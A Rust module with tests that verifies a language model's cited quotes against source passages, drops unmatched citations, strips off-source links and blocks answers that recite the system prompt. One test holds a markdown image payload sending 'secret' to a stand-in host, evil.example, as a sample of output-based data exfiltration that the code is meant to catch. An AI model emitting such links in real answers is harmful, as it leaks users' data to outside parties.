//! Checks an answer's quotes against the passages they are said to come from.

use shared::domain::{Answer, Citation, Grounding, Passage, Usage};

use super::answer_links;
use super::draft::{Draft, Quote};
use super::prompt;

/// What is answered when the documents hold no answer.
pub const NOTHING_FOUND: &str = "The documents hold no answer to this question.";

/// The most citations of one answer. A model that keeps to the passages has no use for as many.
const MAX_CITATIONS: usize = 100;

/// An answer of which every citation was found in its passage.
#[derive(Debug, Clone, PartialEq)]
pub struct Verified {
    /// The answer with the citations that stood the check.
    pub answer: Answer,
    /// What the answer's making consumed.
    pub usage: Usage,
    /// How many quotes were dropped because they stand in no passage.
    pub dropped: usize,
}

/// Keeps the quotes that stand word for word in the passage they name, and drops the others. Takes out of the text what
/// leads elsewhere than to the passages' sources. Every answer, whoever wrote it, goes through here before anybody sees
/// or keeps it; one that recites the instructions to the model, or of which nothing is left, says that there is none.
///
/// `passages` are those that were handed to the answerer, in the same order. A quote that is given twice is cited once.
#[must_use]
pub fn verify(draft: Draft, passages: &[Passage]) -> Verified {
    let text = answer_links::clean(&draft.text, passages);
    if text.trim().is_empty() || prompt::is_recited(&text) {
        return Verified {
            answer: nothing_found(&draft.model),
            usage: draft.usage,
            dropped: draft.quotes.len(),
        };
    }
    let mut citations: Vec<Citation> = Vec::new();
    let mut dropped = 0;
    for quote in &draft.quotes {
        match find(quote, passages) {
            Some(citation) if !is_new(&citation, &citations) => {}
            Some(citation) if citations.len() < MAX_CITATIONS => citations.push(citation),
            Some(_) | None => dropped += 1,
        }
    }
    let grounded = match (citations.is_empty(), dropped) {
        (true, _) => Grounding::None,
        (false, 0) => Grounding::Full,
        (false, _) => Grounding::Partial,
    };
    let answer = Answer {
        text,
        citations,
        grounded,
        model: draft.model,
        truncated: draft.truncated,
    };
    Verified {
        answer,
        usage: draft.usage,
        dropped,
    }
}

/// The plain answer for a question that the documents do not answer.
#[must_use]
pub fn nothing_found(model: &str) -> Answer {
    Answer {
        text: NOTHING_FOUND.to_owned(),
        citations: Vec::new(),
        grounded: Grounding::None,
        model: model.to_owned(),
        truncated: false,
    }
}

fn find(quote: &Quote, passages: &[Passage]) -> Option<Citation> {
    let passage = passages.get(quote.passage)?;
    let text = quote.text.trim();
    if text.is_empty() {
        return None;
    }
    let offset = passage.text.find(text)?;
    let start = passage.start + passage.text[..offset].chars().count();
    Some(Citation {
        document_id: passage.document_id,
        title: passage.title.clone(),
        passage_id: passage.id,
        start,
        end: start + text.chars().count(),
        quote: text.to_owned(),
        source_url: passage.source_url.clone(),
        page: passage.page,
    })
}

/// By place in the document and not by passage: two passages may share a stretch of text.
fn is_new(citation: &Citation, citations: &[Citation]) -> bool {
    let place = |c: &Citation| (c.document_id, c.start, c.end);
    citations.iter().all(|other| place(other) != place(citation))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use shared::domain::{DocumentId, PassageId};

    use super::*;

    fn passage(text: &str, start: usize) -> Passage {
        Passage {
            id: PassageId::new(),
            document_id: DocumentId::new(),
            title: "Guide".to_owned(),
            source_url: Some("https://example.com/guide".to_owned()),
            heading: String::new(),
            text: text.to_owned(),
            start,
            page: None,
        }
    }

    fn draft(quotes: &[(usize, &str)]) -> Draft {
        let quote = |&(passage, text): &(usize, &str)| Quote {
            passage,
            text: text.to_owned(),
        };
        Draft {
            text: "An answer.".to_owned(),
            quotes: quotes.iter().map(quote).collect(),
            model: "m".to_owned(),
            truncated: false,
            usage: Usage::default(),
        }
    }

    #[test]
    fn a_quote_is_placed_in_the_document_by_characters() {
        let passages = [passage("Üben. Die Frist beträgt 30 Sekunden.", 100)];
        let verified = verify(draft(&[(0, " Die Frist beträgt 30 Sekunden. ")]), &passages);
        let citation = &verified.answer.citations[0];
        assert_eq!((citation.start, citation.end), (106, 136));
        assert_eq!(citation.quote, "Die Frist beträgt 30 Sekunden.");
        assert_eq!(citation.passage_id, passages[0].id);
        assert_eq!(citation.document_id, passages[0].document_id);
        assert_eq!(citation.source_url, passages[0].source_url);
        assert_eq!((verified.answer.grounded, verified.dropped), (Grounding::Full, 0));
    }

    #[test]
    fn what_does_not_stand_in_the_named_passage_is_dropped_and_counted() {
        let passages = [
            passage("The lease lasts 30 seconds.", 0),
            passage("Redis may be left out.", 0),
        ];
        let claims = [
            (0, "The lease lasts 30 seconds."),
            (0, "Redis may be left out."),
            (2, "The lease"),
            (1, "  "),
        ];
        let verified = verify(draft(&claims), &passages);
        assert_eq!(verified.answer.citations.len(), 1);
        assert_eq!((verified.answer.grounded, verified.dropped), (Grounding::Partial, 3));
    }

    #[test]
    fn an_answer_without_a_citation_is_not_grounded() {
        let passages = [passage("The lease lasts 30 seconds.", 0)];
        assert_eq!(verify(draft(&[]), &passages).answer.grounded, Grounding::None);
        let invented = verify(draft(&[(0, "The lease lasts 5 seconds.")]), &passages);
        assert_eq!((invented.answer.grounded, invented.dropped), (Grounding::None, 1));
        let mut unmatched = draft(&[]);
        unmatched
            .quotes
            .push(Quote::unmatched("The lease lasts 30 seconds.".to_owned()));
        assert_eq!(verify(unmatched, &passages).dropped, 1);
    }

    #[test]
    fn the_same_place_is_cited_once_whichever_passage_shows_it() {
        let first = passage("One. Two.", 0);
        let second = Passage {
            id: PassageId::new(),
            text: "Two. Three.".to_owned(),
            start: 5,
            ..first.clone()
        };
        let verified = verify(draft(&[(0, "Two."), (1, "Two."), (0, "Two. ")]), &[first, second]);
        assert_eq!((verified.answer.citations.len(), verified.dropped), (1, 0));
        assert_eq!(verified.answer.grounded, Grounding::Full);
    }

    #[test]
    fn the_text_leads_only_to_the_sources() {
        let passages = [passage("The lease lasts 30 seconds.", 0)];
        let wrote = |text: &str| {
            let quoting = draft(&[(0, "The lease lasts 30 seconds.")]);
            let text = text.to_owned();
            verify(Draft { text, ..quoting }, &passages).answer
        };
        let answer = wrote("[Here](https://example.com/a), not [there](https://evil.example/).");
        assert_eq!(answer.text, "[Here](https://example.com/a), not there.");
        assert_eq!(answer.grounded, Grounding::Full);
        for nothing in ["![](https://evil.example/?d=secret)", prompt::SYSTEM] {
            let answer = wrote(nothing);
            assert_eq!(
                (answer.text.as_str(), answer.grounded),
                (NOTHING_FOUND, Grounding::None)
            );
            assert!(answer.citations.is_empty() && !answer.is_cacheable());
        }
    }

    #[test]
    fn no_answer_has_more_citations_than_it_could_need() {
        let text = "0123456789".repeat(20);
        let passages = [passage(&text, 0)];
        let parts: Vec<(usize, &str)> = (1..=200).map(|end| (0, &text[..end])).collect();
        let verified = verify(draft(&parts), &passages);
        assert_eq!(
            (verified.answer.citations.len(), verified.dropped),
            (MAX_CITATIONS, 100)
        );
        assert_eq!(verified.answer.grounded, Grounding::Partial);
    }

    #[test]
    fn nothing_found_is_never_cached() {
        let answer = nothing_found("m");
        assert!(!answer.is_cacheable() && answer.citations.is_empty());
    }

    proptest! {
        #[test]
        fn a_citation_is_always_a_slice_of_the_document(
            text in "[aé \n.]{1,40}", start in 0_usize..1000, quote in "[aé \n.]{0,6}",
        ) {
            let passages = [passage(&text, start)];
            let verified = verify(draft(&[(0, &quote)]), &passages);
            prop_assert_eq!(verified.answer.citations.len() + verified.dropped, 1);
            for citation in verified.answer.citations {
                let length = citation.end - citation.start;
                let slice: String = text.chars().skip(citation.start - start).take(length).collect();
                prop_assert_eq!(slice, citation.quote);
            }
        }
    }
}
